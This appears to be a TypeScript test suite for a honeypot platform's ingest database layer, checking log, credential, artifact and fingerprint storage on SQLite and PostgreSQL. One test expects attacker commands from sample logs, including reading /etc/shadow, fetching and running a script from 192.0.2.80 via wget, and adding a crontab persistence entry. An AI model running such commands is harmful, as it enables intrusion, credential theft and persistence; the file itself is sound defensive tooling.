/**
 * Ingest's repositories and its batch transaction, on every dialect: the same cases on a
 * temp SQLite file and on a PostgreSQL schema of this file's own (CORRECTIONS #5.8).
 */
import { join } from 'node:path';
import { CompiledQuery, sql } from 'kysely';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { FakeClock, MemoryBus, MemoryHub, silentLogger, type BusEvent } from '../../../src/bus/index.js';
import { loadConfig } from '../../../src/config/index.js';
import { SESSION_COMMAND_ROWS, sessionCommandRowsQuery } from '../../../src/correlate/sessions.js';
import type { Db, NewLogRow } from '../../../src/db/index.js';
import { ingestFile } from '../../../src/ingest/index.js';
import type { HarnessResult } from '../../conformance/db/harness.js';
import { REPO } from '../../support/cli.js';

const START = Date.UTC(2026, 4, 1, 13) + 0.25;
const ISO6 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/;
const TABLES = ['logs', 'unparsed_lines', 'credentials', 'artifacts', 'fingerprint_observations', 'ingest_sources', 'events', 'attacker_sessions', 'attackers'] as const;

function log(over: Partial<NewLogRow> = {}): NewLogRow {
  return {
    timestamp: '2026-05-01T12:00:00.123456Z',
    receivedAt: '2026-05-01T13:00:00.000250Z',
    decky: 'decky-01',
    service: 'ssh',
    eventType: 'login_attempt',
    attackerIp: '198.51.100.23',
    severity: 6,
    facility: 16,
    procid: null,
    fields: { principal: 'root', note: 'café ✓ "q"' },
    sd: { 'meta@1': { k: 'v' } },
    msg: 'hello',
    rawLine: '<134>1 …',
    source: 'file:/x',
    flags: ['bom'],
    ...over,
  };
}

export function ingestRepositoryCases(name: string, result: HarnessResult): void {
  if ('fail' in result) {
    describe(`ingest repositories: ${name}`, () => it('has its database', () => Promise.reject(new Error(result.fail))));
    return;
  }
  const { harness } = result;
  const clock = new FakeClock(START);
  let db: Db;

  describe(`ingest repositories: ${name}`, () => {
    beforeAll(async () => {
      db = await harness.main.open({ clock });
    });
    afterAll(async () => {
      await db.close();
      await harness.dispose();
    });
    beforeEach(async () => {
      await db.write(async (tx) => {
        for (const t of TABLES) await tx.db.deleteFrom(t).execute();
      });
    });

    it('logs: ids grow in row order; rows round-trip with times in ISO-8601 with six digits', async () => {
      const ids = await db.write((tx) => db.repos.logs.insertMany(tx, [log(), log({ decky: null, service: null, eventType: null, attackerIp: null, sd: null, msg: null, flags: [], fields: {} }), log({ attackerIp: '2001:db8::1' })]));
      expect(ids).toHaveLength(3);
      expect(ids[1]).toBeGreaterThan(ids[0] as number);
      expect(ids[2]).toBeGreaterThan(ids[1] as number);
      const rows = await db.repos.logs.readAfter(0, 10);
      expect(rows[0]).toEqual({ ...log(), id: ids[0] });
      expect(rows[1]).toMatchObject({ decky: null, sd: null, msg: null, flags: [], fields: {} });
      expect(rows[0]?.receivedAt).toMatch(ISO6);
      expect(await db.repos.logs.readAfter(ids[0] as number, 1)).toMatchObject([{ id: ids[1] }]);
      expect(await db.repos.logs.head()).toBe(ids[2]);
      expect(await db.repos.logs.get(ids[2] as number)).toMatchObject({ attackerIp: '2001:db8::1' });
      const many = await db.write((tx) => db.repos.logs.insertMany(tx, Array.from({ length: 1500 }, (_, i) => log({ msg: `m${i}` }))));
      expect(many).toEqual([...many].sort((a, b) => a - b));
      expect((await db.repos.logs.get(many[1499] as number))?.msg).toBe('m1499');
    });

    it('logs: readFactsAfter gives the rows of readAfter with only the facts a fold reads, in a write (prepared on SQLite) and outside one', async () => {
      await db.write((tx) => db.repos.logs.insertMany(tx, [log(), log({ decky: null, service: null, eventType: null, attackerIp: null, sd: null, msg: null, fields: {} }), log({ attackerIp: '2001:db8::1', fields: { session: 's1' } })]));
      const whole = await db.repos.logs.readAfter(0, 2);
      const facts = whole.map((r) => ({ id: r.id, timestamp: r.timestamp, decky: r.decky, service: r.service, eventType: r.eventType, attackerIp: r.attackerIp, fields: r.fields, msg: r.msg, source: r.source }));
      expect(await db.repos.logs.readFactsAfter(0, 2)).toEqual(facts);
      expect(await db.write((tx) => db.repos.logs.readFactsAfter(0, 2, tx))).toEqual(facts);
      expect(await db.write((tx) => db.repos.logs.readFactsAfter(whole[1]?.id as number, 5, tx))).toMatchObject([{ attackerIp: '2001:db8::1', fields: { session: 's1' } }]);
    });

    it('logs: list filters newest first with a total', async () => {
      await db.write((tx) =>
        db.repos.logs.insertMany(tx, [
          log({ timestamp: '2026-05-01T12:00:01.000000Z' }),
          log({ timestamp: '2026-05-01T12:00:02.000000Z', decky: 'decky-02' }),
          log({ timestamp: '2026-05-01T12:00:03.000000Z', eventType: 'command' }),
          log({ timestamp: '2026-05-01T12:00:04.000000Z', attackerIp: '192.0.2.1' }),
        ]),
      );
      const all = await db.repos.logs.list({}, { limit: 2, offset: 0 });
      expect(all.total).toBe(4);
      expect(all.logs.map((l) => l.timestamp)).toEqual(['2026-05-01T12:00:04.000000Z', '2026-05-01T12:00:03.000000Z']);
      expect((await db.repos.logs.list({ decky: 'decky-01', attackerIp: '198.51.100.23', since: '2026-05-01T12:00:01.500000Z' }, { limit: 10, offset: 0 })).logs.map((l) => l.eventType)).toEqual(['command']);
      expect((await db.repos.logs.list({ eventType: 'login_attempt', until: '2026-05-01T12:00:02.000000Z' }, { limit: 10, offset: 0 })).total).toBe(2);
    });

    it("a session's command lookup reads the partial index logs_session_commands", async () => {
      const window = { startedAt: '2026-05-01T12:00:00.000000Z', endedAt: '2026-05-01T12:10:00.000000Z' } as const;
      const plan = await db.write(async (tx) => {
        if (tx.dialect === 'sqlite') {
          const { rows } = await tx.db.executeQuery<{ detail: string }>(CompiledQuery.raw(`explain query plan ${SESSION_COMMAND_ROWS}`, ['198.51.100.23', 'decky-01', 1000, window.startedAt, window.endedAt]));
          return rows.map((r) => r.detail).join('\n');
        }
        // the test table is tiny: forbid the sequential scan so the plan shows which index serves the query
        await sql`set local enable_seqscan = off`.execute(tx.db);
        const query = sessionCommandRowsQuery(tx.db, '198.51.100.23', 'decky-01', 1000, { ...window, sessionId: null, durationS: 600 }).compile();
        const { rows } = await tx.db.executeQuery<{ 'QUERY PLAN': string }>(CompiledQuery.raw(`explain ${query.sql}`, [...query.parameters]));
        return rows.map((r) => r['QUERY PLAN']).join('\n');
      });
      expect(plan).toContain('logs_session_commands');
    });

    it('unparsed lines', async () => {
      await db.write((tx) => db.repos.logs.insertUnparsed(tx, [{ source: 'udp:192.0.2.1', receivedAt: '2026-05-01T13:00:00.000001Z', raw: 'x', reason: 'bad_pri', position: 0 }, { source: 'file:/x', receivedAt: '2026-05-01T13:00:00.000002Z', raw: 'y', reason: 'bad_json', position: null }]));
      expect(await db.repos.logs.listUnparsed({ limit: 10 })).toMatchObject([{ raw: 'y', position: null }, { raw: 'x', reason: 'bad_pri', position: 0, receivedAt: '2026-05-01T13:00:00.000001Z' }]);
      expect(await db.repos.logs.listUnparsed({ limit: 10, source: 'udp:192.0.2.1' })).toHaveLength(1);
    });

    it('credentials: the upsert counts occurrences and widens first/last seen; a new key gets a new seq', async () => {
      const base = { attackerIp: '198.51.100.23', decky: 'decky-01', service: 'ssh', principal: 'root', secretKind: 'plaintext', secretSha256: 'ab'.repeat(32), secretPrintable: null, secretB64: null, seenAt: '2026-05-01T12:00:05.000000Z', logId: 7 };
      const [a, b, c, d] = await db.write(async (tx) => [
        await db.repos.credentials.upsert(tx, base),
        await db.repos.credentials.upsert(tx, { ...base, seenAt: '2026-05-01T12:00:01.000001Z', logId: 8 }),
        await db.repos.credentials.upsert(tx, { ...base, seenAt: '2026-05-01T12:00:09.000000Z', secretPrintable: 'p', secretB64: 'cA==', logId: 9 }),
        await db.repos.credentials.upsert(tx, { ...base, principal: '', logId: 10 }),
      ]);
      expect(b).toEqual(a);
      expect(c).toEqual(a);
      expect(d?.seq).toBeGreaterThan(a?.seq ?? Infinity);
      const rows = await db.repos.credentials.readAfter(0, 10);
      expect(rows).toHaveLength(2);
      expect(rows[0]).toMatchObject({ id: a?.id, count: 3, firstSeen: '2026-05-01T12:00:01.000001Z', lastSeen: '2026-05-01T12:00:09.000000Z', logId: 7, secretPrintable: 'p', secretB64: 'cA==', attackerId: null });
      expect(rows[0]?.createdAt).toMatch(ISO6);
      expect(rows[1]).toMatchObject({ principal: '', count: 1 });
      expect(await db.repos.credentials.head()).toBe(d?.seq);
      const attacker = '4f0c5f1e-2a7b-4c1d-9e3f-0a1b2c3d4e5f';
      expect(await db.write((tx) => db.repos.credentials.setAttackerId(tx, '198.51.100.23', attacker))).toBe(2);
      expect(await db.write((tx) => db.repos.credentials.setAttackerId(tx, '198.51.100.23', attacker))).toBe(0);
      expect((await db.repos.credentials.listByAttacker('198.51.100.23')).map((r) => r.attackerId)).toEqual([attacker, attacker]);
    });

    it('credentials: upsertMany is upsert for each row, in order', async () => {
      const base = { attackerIp: '198.51.100.23', decky: 'decky-01', service: 'ssh', principal: 'root', secretKind: 'plaintext', secretSha256: 'ab'.repeat(32), secretPrintable: null, secretB64: null, seenAt: '2026-05-01T12:00:05.000000Z', logId: 7 };
      await db.write((tx) => db.repos.credentials.upsertMany(tx, []));
      await db.write((tx) =>
        db.repos.credentials.upsertMany(tx, [
          base,
          { ...base, seenAt: '2026-05-01T12:00:01.000001Z', logId: 8 },
          { ...base, principal: '', logId: 10 },
          { ...base, seenAt: '2026-05-01T12:00:09.000000Z', secretPrintable: 'p', secretB64: 'cA==', logId: 9 },
        ]),
      );
      const rows = await db.repos.credentials.readAfter(0, 10);
      expect(rows).toHaveLength(2);
      expect(rows[0]).toMatchObject({ principal: 'root', count: 3, firstSeen: '2026-05-01T12:00:01.000001Z', lastSeen: '2026-05-01T12:00:09.000000Z', logId: 7, secretPrintable: 'p', secretB64: 'cA==' });
      expect(rows[0]?.updatedAt).toMatch(ISO6);
      expect(rows[1]).toMatchObject({ principal: '', count: 1, logId: 10 });
      expect(rows[1]?.seq).toBeGreaterThan(rows[0]?.seq ?? Infinity);
    });

    it('fingerprint observations: a given detailsJson is stored as the details', async () => {
      await db.write((tx) => db.repos.ingestExtracts.insertFingerprints(tx, [{ logId: 3, observedAt: '2026-05-01T12:00:00.000001Z', attackerIp: '198.51.100.23', decky: 'decky-01', service: 'ssh', kind: 'hassh', value: 'h1', port: null, source: 'passive', details: { a: 1 }, detailsJson: '{"a":1}' }]));
      expect((await db.repos.ingestExtracts.readFingerprintsAfter(0, 5)).map((f) => f.details)).toEqual([{ a: 1 }]);
    });

    it('ingest sources: save, get, list, generations', async () => {
      const s = { id: 'file:/var/log/x', kind: 'file', format: 'rfc5424', path: '/var/log/x', dev: '2049', inode: '18446744073709551615', headHash: 'cd'.repeat(32), offset: 123, lines: 3, parsed: 2, unparsed: 1, filtered: 0, dropped: 0, truncations: 0, rotations: 1, lastError: null };
      await db.repos.ingestSources.save(s);
      await db.repos.ingestSources.save({ ...s, id: `${s.id}#2`, offset: 0 });
      await db.repos.ingestSources.save({ ...s, offset: 456, lastError: 'boom' });
      expect(await db.repos.ingestSources.get(s.id)).toEqual({ ...s, offset: 456, lastError: 'boom', updatedAt: clock.isoNow() });
      expect((await db.repos.ingestSources.list()).map((r) => r.id)).toEqual([s.id, `${s.id}#2`]);
      expect(await db.repos.ingestSources.idsWithPrefix('file:/var/log/x')).toHaveLength(2);
      expect(await db.repos.ingestSources.get('nope')).toBeUndefined();
    });

    it('artifacts and fingerprint observations', async () => {
      await db.write(async (tx) => {
        await db.repos.ingestExtracts.insertArtifacts(tx, [{ kind: 'file', attackerIp: '198.51.100.23', decky: 'decky-01', service: 'ssh', sha256: 'ef'.repeat(32), url: 'http://192.0.2.80/x', storedAs: 'dl/x', logId: 3 }]);
        await db.repos.ingestExtracts.insertFingerprints(tx, [
          { logId: 3, observedAt: '2026-05-01T12:00:00.000001Z', attackerIp: '198.51.100.23', decky: 'decky-01', service: 'ssh', kind: 'hassh', value: 'h1', port: null, source: 'passive', details: { a: [1, 'b'] } },
          { logId: 4, observedAt: '2026-05-01T12:00:00.000002Z', attackerIp: '198.51.100.23', decky: 'decnet-prober', service: 'prober', kind: 'jarm', value: 'j1', port: 443, source: 'active', details: {} },
        ]);
      });
      expect(await db.repos.ingestExtracts.listArtifacts({ limit: 5, attackerIp: '198.51.100.23' })).toMatchObject([{ kind: 'file', sha256: 'ef'.repeat(32), logId: 3 }]);
      const fps = await db.repos.ingestExtracts.readFingerprintsAfter(0, 5);
      expect(fps.map((f) => [f.kind, f.port, f.source, f.details])).toEqual([
        ['hassh', null, 'passive', { a: [1, 'b'] }],
        ['jarm', 443, 'active', {}],
      ]);
      expect(await db.repos.ingestExtracts.readFingerprintsAfter(fps[0]?.id ?? 0, 5)).toHaveLength(1);
    });

    it('the examples give the same rows and events as on every dialect', async () => {
      const hub = new MemoryHub();
      const bus = new MemoryBus({ name: 'i', hub, clock, strict: true });
      const watcher = new MemoryBus({ name: 'w', hub, clock });
      const events: BusEvent[] = [];
      const sub = watcher.subscribe('>');
      await sub.ready;
      void (async () => {
        for await (const e of sub) events.push(e);
      })();
      const deps = { db, bus, config: loadConfig({ env: { DECNET_HOME: '/nonexistent-decnet-home' } }), log: silentLogger, clock, signal: new AbortController().signal };
      const out = [];
      for (const [file, format] of [['rfc5424.log', 'rfc5424'], ['cowrie.json', 'cowrie'], ['opencanary.json', 'opencanary']] as const) {
        out.push(await ingestFile(deps, { file: join(REPO, 'examples', file), format, follow: false, fromStart: false }));
      }
      expect(out.map((s) => [s.lines, s.parsed, s.unparsed, s.filtered, s.events])).toEqual([
        [11, 9, 0, 2, 2],
        [19, 19, 0, 0, 9],
        [7, 6, 0, 1, 3],
      ]);
      const deadline = Date.now() + 10_000;
      while (events.length < 14 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 5));
      expect(events).toHaveLength(14);
      const ended = events.find((e) => e.topic === 'attacker.session.ended' && (e.payload as { session_id?: string }).session_id === 'a1b2c3d4e5f6');
      expect((ended?.payload as { commands: Array<{ command_text: string }> }).commands.map((c) => c.command_text)).toEqual([
        'uname -a',
        'cat /etc/shadow',
        'cd /tmp; wget http://192.0.2.80/bins.sh; chmod +x bins.sh; ./bins.sh',
        '(crontab -l; echo "*/5 * * * * /tmp/bins.sh") | crontab -',
      ]);
      expect(await db.repos.logs.head()).toBeGreaterThan(0);
      expect((await db.repos.credentials.readAfter(0, 100)).length).toBe(9);
      expect((await db.repos.journal.readAfter(0, { limit: 100 })).length).toBe(11);
      await sub.close();
      await Promise.all([bus.close(), watcher.close()]);
    });

    it('two writers at once: every row stored once, ids unique and growing per writer', async () => {
      const other = await harness.main.open({ clock });
      try {
        const write = (d: Db, tag: string): Promise<number[][]> =>
          Promise.all(Array.from({ length: 10 }, (_, i) => d.write((tx) => d.repos.logs.insertMany(tx, Array.from({ length: 20 }, (_, j) => log({ msg: `${tag}-${i}-${j}` }))), { locks: ['logs'] })));
        const [a, b] = await Promise.all([write(db, 'a'), write(other, 'b')]);
        const ids = [...a.flat(), ...b.flat()];
        expect(new Set(ids).size).toBe(400);
        for (const batch of [...a, ...b]) expect(batch).toEqual([...batch].sort((x, y) => x - y));
        expect((await db.repos.logs.readAfter(0, 1000)).length).toBe(400);
      } finally {
        await other.close();
      }
    });
  });
}
